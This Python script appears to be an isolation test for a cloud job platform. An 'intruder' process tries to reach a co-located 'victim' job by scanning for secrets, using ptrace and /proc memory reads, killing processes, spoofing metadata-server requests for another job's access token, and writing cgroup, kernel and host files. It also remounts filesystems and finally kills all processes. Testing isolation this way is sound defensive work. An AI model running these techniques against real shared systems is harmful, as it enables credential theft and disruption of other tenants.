"""A worker, or a master that is told so, keeps a secret. Any other master waits until `told` in its job-dir says the data directory,
the other's attempt and the pid of its program on the machine; then it tries to get at the other in each way that a program has, and
writes into the bucket what came of it."""

import ctypes
import glob
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.request

if "victim" in sys.argv or json.loads(os.environ["TF_CONFIG"])["task"]["type"] == "worker":
    os.execv(sys.executable, [sys.executable, "-m", "intruder.victim"])

JOB_DIR = sys.argv[sys.argv.index("--job-dir") + 1].replace("gs://", "/gcs/")
while not os.path.exists(JOB_DIR + "/told"):
    time.sleep(0.02)
DATA, ATTEMPT, PID = open(JOB_DIR + "/told").read().split()
PID = int(PID)
LIBC = ctypes.CDLL(None, use_errno=True)
MOUNT_READ_ONLY, MOUNT_REMOUNT, MOUNT_BIND, DETACH = 1, 32, 4096, 2
PTRACE_SEIZE = 0x4206


def try_all(attempts):
    """What each attempt came to: its value, or the name of the error."""
    results = {}
    for name, attempt in attempts.items():
        try:
            results[name] = attempt()
        except Exception as error:
            results[name] = type(error).__name__ + ": " + str(error)
    return results


def call(function, *arguments):
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def secrets_in(folders):
    """Secrets of others in all files below the folders, by path."""
    found = {}
    for folder in folders:
        for where, names, files in os.walk(folder):
            names[:] = [name for name in names if os.path.join(where, name) not in (f"{DATA}/environments", f"{DATA}/buckets")]
            for file in files:
                path = os.path.join(where, file)
                try:
                    with open(path, "rb") as opened:
                        content = opened.read(1 << 20)
                except OSError:
                    continue
                if re.search(rb"SECRET-[0-9a-f]{32}", content):
                    found[path] = True
    return sorted(found)


def readable(folder):
    """All files of the data directory that can be opened, without those that replicas may read and their own."""
    tools = os.environ["PATH"].split(":")[0]  # gcsfuse and umount, of this attempt
    mine = (os.getcwd(), os.environ["HOME"], tools)
    paths = []
    for where, names, files in os.walk(folder):
        names[:] = [name for name in names if os.path.join(where, name) not in
                    (*mine, f"{DATA}/environments", f"{DATA}/front", f"{DATA}/buckets")]
        paths += [os.path.join(where, file) for file in files if os.access(os.path.join(where, file), os.R_OK)]
    return sorted(paths)


def processes():
    """Pids that a signal could be sent to, without init and this process."""
    found = []
    for pid in range(2, 1 << 16):
        try:
            os.kill(pid, 0)
            found.append(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            found.append(pid)
    return [pid for pid in found if pid != os.getpid()]


def attach(pid):
    return call(LIBC.ptrace, PTRACE_SEIZE, pid, None, None)


def memory_of(pid):
    with open(f"/proc/{pid}/mem", "rb") as memory:
        return memory.read(1)


def system_v():
    LIBC.shmat.restype = ctypes.c_void_p
    segment = LIBC.shmget(0x7A11, 4096, 0)
    if segment < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return ctypes.string_at(LIBC.shmat(segment, None, 0), 39).decode()


def door(path):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        return peer.recv(100).decode()


def write(path, text="x"):
    with open(path, "w") as file:
        file.write(text)
    return "written"


def metadata(host):
    url = "http://" + socket.gethostbyname(os.environ["GCE_METADATA_HOST"]) + "/computeMetadata/v1/instance/service-accounts/default/token"
    request = urllib.request.Request(url, headers={"Metadata-Flavor": "Google", "Host": host})
    return json.load(urllib.request.urlopen(request, timeout=20))["access_token"]


def mount(*arguments):
    return call(LIBC.mount, *arguments)


def device_node():
    """/dev/full, under a name of our own."""
    os.mknod("/tmp/full", 0o600 | 0o020000, os.makedev(1, 7))
    return "made"


def other_cgroup():
    path = next(path for path in glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True) if ATTEMPT in path)
    return write(path, open(path).read())


def main():
    mac = os.environ.get("GCE_METADATA_HOST", "").split(".", 2)
    results = try_all({
        "secrets": lambda: [path for path in secrets_in(["/tmp", "/dev/shm", DATA]) if "/intruder/" not in path],
        "processes": processes,
        "proc": lambda: sorted(int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())),
        "servers_environ": lambda: len(open("/proc/1/environ", "rb").read()),
        "ptrace": lambda: attach(PID),
        "memory": lambda: memory_of(PID),
        "interrupt": lambda: os.kill(PID, signal.SIGKILL),
        "system_v": system_v,
        "door": lambda: door("/tmp/own-door"),
        "door_by_root": lambda: door(f"/proc/{PID}/root/tmp/own-door"),
        "readable": lambda: readable(DATA),
        "manifest": lambda: open(f"{DATA}/attempts/{ATTEMPT}/manifest.pb", "rb").read().hex(),
        "attach_socket": lambda: door(f"{DATA}/run/attach.sock"),
        "admin_socket": lambda: door(f"{DATA}/run/admin.sock"),
        "others_token": lambda: metadata(".".join([ATTEMPT, *mac[1:]])),
        "host_name": lambda: socket.sethostname("victim"),
        "cgroup": other_cgroup,
        "kernel_setting": lambda: write("/proc/sys/kernel/core_pattern", open("/proc/sys/kernel/core_pattern").read()),
        "write_hosts": lambda: write("/etc/hosts", open("/etc/hosts").read()),
        "write_environment": lambda: write(os.path.join(os.environ["PYTHONPATH"].split(":")[0], "intruder")),
        "write_bundle": lambda: open(os.environ["SSL_CERT_FILE"], "a").close(),
        # What needs the rights of root over the machine.
        "unmount": lambda: call(LIBC.umount2, DATA.encode(), DETACH),
        "mount_proc": lambda: mount(b"proc", b"/tmp", b"proc", 0, None),
        "writable_again": lambda: mount(None, sys.prefix.encode(), None, MOUNT_REMOUNT | MOUNT_BIND, None),
        "device_node": device_node,
        "after": lambda: [path for path in secrets_in([DATA]) if "/intruder/" not in path],
        "own_namespace": lambda: subprocess.run(["unshare", "-Um", "sh", "-c", f"umount -l {DATA}; ls {DATA}/attempts"],
                                                capture_output=True, text=True).stdout.split(),
    })
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    results["kill_all"] = try_all({"": lambda: os.kill(-1, signal.SIGKILL)})[""]
    with open(JOB_DIR + "/results.json", "w") as out:
        json.dump(results, out, indent=1)
    print("done", flush=True)
    signal.pause()


if __name__ == "__main__":
    main()
